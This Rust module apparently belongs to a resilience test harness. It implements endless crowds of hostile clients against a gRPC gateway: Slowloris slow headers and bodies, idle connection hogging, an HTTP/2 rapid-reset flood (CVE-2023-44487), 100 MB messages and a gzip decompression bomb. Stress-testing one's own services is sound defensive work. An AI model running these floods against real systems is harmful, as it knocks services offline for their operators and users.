//! Crowds of clients that cost a server more than they cost themselves. Each goes on until it is dropped.

use std::{
    net::SocketAddr,
    sync::{
        Arc, LazyLock,
        atomic::{AtomicU64, Ordering},
    },
    time::Duration,
};

use futures::future::join_all;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::sleep,
};

use super::{call::gzip, wire};

const ADD_LINE: &str = "/omnimesh.carts.v1.CartService/AddLine";
const GET_CART: &str = "/omnimesh.carts.v1.CartService/GetCart";
const LIST_PRODUCTS: &str = "/omnimesh.catalog.v1.CatalogService/ListProducts";
/// Between two bytes of a slow client.
const DRIP: Duration = Duration::from_millis(500);
/// Before a client that was cut off comes again.
const AGAIN: Duration = Duration::from_millis(50);
const LARGE: usize = 100 << 20;
const PIECE: usize = 64 << 10;
/// Far larger than any message may be, once it is unpacked. Packed once, and not where others wait for it.
static BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| gzip(&vec![b' '; 16 << 20]));

/// What a crowd does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// Slowloris: heads, bodies and readers that take their time.
    Slow,
    /// Connections that are silent, from the start or after a call.
    Idle,
    /// Streams that are opened and reset at once (CVE-2023-44487).
    Resets,
    /// Messages of 100 MB, plain and packed.
    Large,
}

impl Kind {
    /// All there are.
    pub const ALL: [Self; 4] = [Self::Slow, Self::Idle, Self::Resets, Self::Large];

    /// Its name on a command line.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::Slow => "slow",
            Self::Idle => "idle",
            Self::Resets => "resets",
            Self::Large => "large",
        }
    }
}

/// A crowd.
#[derive(Clone, Debug)]
pub struct Crowd {
    /// The gateway.
    pub gateway: SocketAddr,
    /// A session's token.
    pub token: String,
    /// How many connections at the same time.
    pub connections: usize,
    /// What they did so often: connections opened, streams reset, messages begun.
    pub done: Arc<AtomicU64>,
}

impl Crowd {
    /// Goes on and on.
    pub async fn run(&self, kind: Kind) {
        let clients = (0..self.connections).map(|number| async move {
            loop {
                // Whoever is refused or cut off comes again.
                let ended = match kind {
                    Kind::Slow => self.slow(number).await,
                    Kind::Idle => self.idle(number).await,
                    Kind::Resets => self.resets().await,
                    Kind::Large => self.large(number).await,
                };
                drop(ended);
                sleep(AGAIN).await;
            }
        });
        join_all(clients).await;
    }

    async fn connect(&self) -> std::io::Result<TcpStream> {
        let stream = TcpStream::connect(self.gateway).await?;
        self.done.fetch_add(1, Ordering::Relaxed);
        stream.set_nodelay(true)?;
        Ok(stream)
    }

    async fn slow(&self, number: usize) -> std::io::Result<()> {
        let mut stream = self.connect().await?;
        match number % 4 {
            0 => {
                stream.write_all(b"POST / HTTP/1.1\r\nhost: x\r\n").await?;
                drip(&mut stream, b"x-a: 1\r\n").await
            }
            1 => {
                stream.write_all(self.head(ADD_LINE, "application/json", 100_000, "").as_bytes()).await?;
                drip(&mut stream, b" ").await
            }
            2 => {
                stream.write_all(wire::PREFACE).await?;
                stream.write_all(&wire::settings(0)).await?;
                stream.write_all(&wire::headers(1, ADD_LINE, &self.token, false)).await?;
                stream.write_all(&wire::data(1, &[0, 0, 0, 255, 255], false)).await?;
                drip(&mut stream, &wire::data(1, &[0], false)).await
            }
            // Takes nothing of what it asks for, and asks again.
            _ => {
                stream.write_all(wire::PREFACE).await?;
                stream.write_all(&wire::settings(0)).await?;
                for call in 0..100u32 {
                    let stream_id = call * 2 + 1;
                    stream.write_all(&wire::headers(stream_id, LIST_PRODUCTS, &self.token, false)).await?;
                    stream.write_all(&wire::data(stream_id, &[0; 5], true)).await?;
                    sleep(DRIP).await;
                }
                Ok(())
            }
        }
    }

    async fn idle(&self, number: usize) -> std::io::Result<()> {
        let mut stream = self.connect().await?;
        match number % 3 {
            0 => {}
            1 => stream.write_all(b"GET /healthz HTTP/1.1\r\nhost: x\r\n\r\n").await?,
            _ => {
                stream.write_all(wire::PREFACE).await?;
                stream.write_all(&wire::settings(65_535)).await?;
            }
        }
        // Hears whatever comes, and says nothing more, until it is cut.
        let mut buffer = [0; 1_024];
        while stream.read(&mut buffer).await? > 0 {}
        Ok(())
    }

    async fn resets(&self) -> std::io::Result<()> {
        let mut stream = self.connect().await?;
        stream.write_all(wire::PREFACE).await?;
        stream.write_all(&wire::settings(65_535)).await?;
        let (mut reader, mut writer) = stream.into_split();
        let hears = async {
            let mut buffer = [0; 4_096];
            while reader.read(&mut buffer).await.is_ok_and(|count| count > 0) {}
        };
        let floods = async {
            let mut id = 1;
            loop {
                let mut burst = Vec::new();
                for _ in 0..50 {
                    burst.extend(wire::headers(id, GET_CART, &self.token, false));
                    burst.extend(wire::data(id, &[0; 5], true));
                    burst.extend(wire::reset(id));
                    id += 2;
                }
                if writer.write_all(&burst).await.is_err() {
                    return;
                }
                self.done.fetch_add(50, Ordering::Relaxed);
            }
        };
        tokio::select! {
            () = hears => {}
            () = floods => {}
        }
        Ok(())
    }

    async fn large(&self, number: usize) -> std::io::Result<()> {
        let stream = self.connect().await?;
        let (mut reader, mut writer) = stream.into_split();
        let head = match number % 4 {
            0 => self.head(ADD_LINE, "application/json", LARGE, "").into_bytes(),
            1 => self.head(ADD_LINE, "application/grpc-web+proto", LARGE, "").into_bytes(),
            2 => {
                let packed = tokio::task::spawn_blocking(|| BOMB.as_slice()).await;
                let bomb = packed.map_err(std::io::Error::other)?;
                let head = self.head(ADD_LINE, "application/json", bomb.len(), "content-encoding: gzip\r\n");
                [head.as_bytes(), bomb].concat()
            }
            _ => {
                let mut begun = [wire::PREFACE.to_vec(), wire::settings(65_535)].concat();
                begun.extend(wire::headers(1, ADD_LINE, &self.token, false));
                // 100 MB are announced; what the window takes is sent.
                begun.extend(wire::data(1, &[0, 6, 64, 0, 0], false));
                (0..3).for_each(|_| begun.extend(wire::data(1, &[b' '; 16_000], false)));
                begun
            }
        };
        let pours = number % 4 < 2;
        let sends = async {
            writer.write_all(&head).await?;
            let piece = vec![b' '; PIECE];
            for _ in 0..LARGE / PIECE {
                if !pours {
                    break;
                }
                writer.write_all(&piece).await?;
            }
            std::future::pending::<std::io::Result<()>>().await
        };
        let hears = async {
            let mut buffer = [0; 4_096];
            let first = reader.read(&mut buffer).await.map(drop);
            // Whoever was answered has heard enough.
            sleep(Duration::from_millis(100)).await;
            first
        };
        tokio::select! {
            sent = sends => sent,
            heard = hears => heard,
        }
    }

    fn head(&self, path: &str, kind: &str, length: usize, more: &str) -> String {
        format!(
            "POST {path} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {}\r\ncontent-type: {kind}\r\ncontent-length: {length}\r\n\
             {more}\r\n",
            self.token
        )
    }
}

/// A little now and then, until the other side has enough of it.
async fn drip(stream: &mut TcpStream, drop: &[u8]) -> std::io::Result<()> {
    let mut buffer = [0; 1_024];
    loop {
        tokio::select! {
            heard = stream.read(&mut buffer) => {
                if heard? == 0 {
                    return Ok(());
                }
            }
            () = sleep(DRIP) => stream.write_all(drop).await?,
        }
    }
}
